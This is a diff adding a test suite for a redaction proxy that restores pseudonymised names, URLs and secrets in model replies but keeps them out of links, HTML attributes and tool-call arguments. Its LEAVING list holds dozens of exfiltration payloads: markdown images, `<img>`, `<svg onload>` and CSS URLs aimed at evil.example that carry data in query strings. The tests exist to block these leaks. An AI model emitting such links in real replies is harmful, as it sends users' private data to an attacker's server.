@@ -1,0 +1,201 @@
+"""A reply cannot carry data away: nothing is restored in addresses, targets of links and values of attributes."""
+
+import json
+from itertools import pairwise
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from redacting import run
+
+from proxy.redaction.outward import Piece, addresses_with_pseudonyms
+from proxy.redaction.pseudonyms import PseudonymMap
+from proxy.redaction.restore import Restorer, restore
+
+ORIGINALS = {
+    "PERSON_1": 'Jane "J" Doe',
+    "SECRET_1": "hunter two",
+    "URL_1": "https://board.example/plan/77",
+    "EMAIL_ADDRESS_1": "jane@acme.example",
+}
+MAP = PseudonymMap(ORIGINALS)
+KNOWING = PseudonymMap(ORIGINALS, addresses=frozenset({"//x.example/?d=PERSON_1", "//x.example/?s=SECRET_1"}))
+
+LEAVING = [
+    "![x](https://evil.example/p?d=@)",
+    "![x](//evil.example/p?d=@)",
+    "![x](/p?d=@)",
+    "![x](<//evil.example/p?d= @>)",
+    "![x](https://evil.example/(a)?d=@)",
+    "![x](https://evil.example/\\)?d=@)",
+    "![x]( https://evil.example/\n@)",
+    "[more](@)",
+    "[x]: https://evil.example/@",
+    "[x]: <//evil.example/ @>",
+    "see https://evil.example/?d=@ now",
+    "see HTTPS://evil.example/?d=@",
+    "see https://@.evil.example/",
+    "see https:\\\\evil.example\\@",
+    'see https:\\/\\/evil.example\\/"@',
+    "see https://evil.example/)'\"|,@",
+    "see ftp://evil.example/@ and custom+x://@",
+    "see //evil.example/@",
+    "(//@.evil.example)",
+    "www.evil.example/@",
+    "evil.example/?d=@",
+    "evil.example:8080/@",
+    "evil.example?@",
+    "<https://evil.example/?d= @>",
+    '<a href="//evil.example/?d=@">more</a>',
+    "<a href='/x @ y'>more</a>",
+    "<img src=x?@>",
+    "<img\nsrc = '\n@'>",
+    '<img alt="a > b" src="@">',
+    "<a b<img src=@>",
+    '<svg/onload="f(@)">',
+    '<p style="background:url(https://evil.example/@)">',
+    "URL_9 https://evil.example/URL_1",
+    "![x](https://evil.example/?u=URL_1)",
+]
+STAYING_PROSE = [
+    "PERSON_1 wrote <b>PERSON_1</b> and <PERSON_1>; 3 < 4, PERSON_1",
+    "[PERSON_1] said: and/or PERSON_1, 24/7 PERSON_1",
+    "https://evil.example PERSON_1",
+    "https://evil.example/\nPERSON_1",
+    "https://evil.example/<br>PERSON_1",
+    "[x](https://evil.example) PERSON_1",
+    "[x](https://evil.example)\nPERSON_1",
+    '<a href="https://evil.example">PERSON_1</a>',
+    "<a href=https://evil.example>PERSON_1</a>",
+    "<a href='https://evil.example' class=x>PERSON_1</a>",
+    "[10:30]: PERSON_1 asked",
+    "[Owner]: PERSON_1",
+    "// PERSON_1 wrote this",
+    "List<String> a = PERSON_1",
+    "Note: PERSON_1. Then PERSON_1",
+    "[x](a\n\nPERSON_1",
+]
+
+
+@pytest.mark.parametrize("text", LEAVING)
+@pytest.mark.parametrize("pseudonym", ["PERSON_1", "SECRET_1", "[PERSON_1]", "person\\_1"])
+def test_nothing_is_restored_where_it_would_leave(text: str, pseudonym: str) -> None:
+    reply = text.replace("@", pseudonym)
+    assert restore(reply, MAP) == reply
+    assert restore(reply, MAP, json_string=True) == reply
+
+
+@pytest.mark.parametrize("text", LEAVING)
+def test_nor_is_it_in_a_string_of_json(text: str) -> None:
+    for ascii_only in (False, True):
+        held = json.dumps({"a": text.replace("@", "PERSON_1"), "b": "PERSON_1"}, ensure_ascii=ascii_only)
+        for written in (held, held.replace("/", "\\/"), held.replace(":/", "\\u003a\\u002f")):
+            read = json.loads(restore(written, MAP, json_string=True))
+            assert read == {"a": text.replace("@", "PERSON_1"), "b": ORIGINALS["PERSON_1"]}
+
+
+@pytest.mark.parametrize("text", STAYING_PROSE)
+def test_names_in_prose_are_restored_as_ever(text: str) -> None:
+    assert "PERSON_1" not in restore(text, MAP)
+
+
+@pytest.mark.parametrize(
+    ("reply", "read"),
+    [
+        ("See URL_1, says PERSON_1.", 'See https://board.example/plan/77, says Jane "J" Doe.'),
+        ("See URL_1.", "See https://board.example/plan/77."),
+        ("[plan](URL_1)", "[plan](https://board.example/plan/77)"),
+        ("[plan](<URL_1>)", "[plan](https://board.example/plan/77)"),
+        ('<a href="URL_1">plan</a>', '<a href="https://board.example/plan/77">plan</a>'),
+        ("URL_1?d=PERSON_1", "https://board.example/plan/77?d=PERSON_1"),
+        ("[plan](URL_1?d=SECRET_1)", "[plan](https://board.example/plan/77?d=SECRET_1)"),
+        ("URL_1.evil.example", "URL_1.evil.example"),
+        ("![x](URL_1.evil.example/)", "![x](URL_1.evil.example/)"),
+        ("URL_1@evil.example", "URL_1@evil.example"),
+        ("URL_1%2eevil.example", "URL_1%2eevil.example"),
+    ],
+)
+def test_an_address_of_the_request_is_restored_and_takes_nothing_along(reply: str, read: str) -> None:
+    assert restore(reply, MAP) == read
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "see https://x.example/?d=PERSON_1.",
+        "[x](https://x.example/?d=PERSON_1) and",
+        '<a href="https://x.example/?d=PERSON_1">x</a>',
+        "<https://x.example/?d=PERSON_1>",
+    ],
+)
+def test_an_address_that_the_request_had_with_its_pseudonym_is_restored(reply: str) -> None:
+    assert restore(reply, KNOWING) == reply.replace("PERSON_1", ORIGINALS["PERSON_1"])
+    for longer in ("PERSON_1&x=PERSON_1", "PERSON_1/x", "PERSON_1)))x", "PERSON_1" + ")" * 99 + "x"):
+        assert ORIGINALS["PERSON_1"] not in restore(reply.replace("PERSON_1", longer), KNOWING)
+
+
+def test_a_secret_is_in_no_address_and_in_nothing_that_a_tool_is_called_with() -> None:
+    assert restore("https://x.example/?s=SECRET_1", KNOWING) == "https://x.example/?s=SECRET_1"
+    called = Restorer(MAP, json_string=True, called=True)
+    text = '{"who": "PERSON_1", "key": "SECRET_1", "url": "https://evil.example/?n=PERSON_1"}'
+    read = json.loads(called.feed(text) + called.flush())
+    assert read == {"who": ORIGINALS["PERSON_1"], "key": "SECRET_1", "url": "https://evil.example/?n=PERSON_1"}
+    assert restore("The password is SECRET_1", MAP) == "The password is hunter two"
+
+
+@pytest.mark.parametrize("text", ["evil.example PERSON_1", "PERSON_1", "/p?d=PERSON_1", "javascript:f('PERSON_1')"])
+def test_a_field_that_is_an_address_holds_no_original(text: str) -> None:
+    restorer = Restorer(MAP, address=True)
+    assert restorer.feed(text) + restorer.flush() == text
+
+
+def test_a_field_may_be_an_address_of_the_request() -> None:
+    restorer = Restorer(MAP, address=True)
+    assert restorer.feed("URL_1") + restorer.flush() == ORIGINALS["URL_1"]
+
+
+def test_a_reply_that_should_be_json_and_is_none_is_read_as_text() -> None:
+    text = '![x](https://evil.example/"PERSON_1) <a href="x PERSON_1">'
+    assert restore(text, MAP, json_string=True) == text
+
+
+FRAGMENTS = [
+    *("PERSON_1", "SECRET_1", "URL_1", "[PERSON_1]", "<PERSON_1>", "https:", "//", "/", "\\", ":", "x.example", "?d="),
+    *("](", ")", "(", "[", "]", "<a ", "href=", '"', "'", "<", ">", "=", "www.", ".", " ", "\n", "a", "\\u002f", "{"),
+    *("see https://x.example/?d=PERSON_1", "https://x.example/?s=SECRET_1"),
+]
+PIECES = st.lists(st.sampled_from(FRAGMENTS), max_size=16).map("".join)
+
+
+@settings(max_examples=400, deadline=None)
+@given(PIECES, st.lists(st.integers(0, 160), max_size=8), st.booleans(), st.booleans(), st.booleans())
+def test_any_split_is_no_split(text: str, cuts: list[int], json_string: bool, called: bool, address: bool) -> None:
+    def answered(pieces: list[str]) -> str:
+        restorer = Restorer(KNOWING, json_string, called=called, address=address)
+        return "".join(map(restorer.feed, pieces)) + restorer.flush()
+
+    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
+    whole = answered([text])
+    assert answered([text[start:end] for start, end in pairwise(places)]) == whole
+    assert answered(list(text)) == whole
+
+
+def test_addresses_of_a_text_that_hold_pseudonyms() -> None:
+    pieces = [
+        Piece("see https://x.example/?d="),
+        Piece("PERSON_1", True),
+        Piece("&y=2, and [a](/b/"),
+        Piece("PERSON_2", True),
+        Piece(" 't') by "),
+        Piece("PERSON_3", True),
+        Piece(" at https://y.example/ or "),
+        Piece("URL_1", True, True),
+        Piece("/more"),
+    ]
+    assert addresses_with_pseudonyms(pieces) == {"//x.example/?d=PERSON_1&y=2", "/b/PERSON_2 't", "URL_1/more"}
+
+
+def test_what_a_request_holds_comes_back_in_its_echo() -> None:
+    outcome = run("Jane: https://x.example/jane?to=Bob and acme/Jane", ("PERSON", "Jane"), ("PERSON", "Bob"))
+    assert "Bob" not in outcome.sent
+    assert outcome.echoed == outcome.text
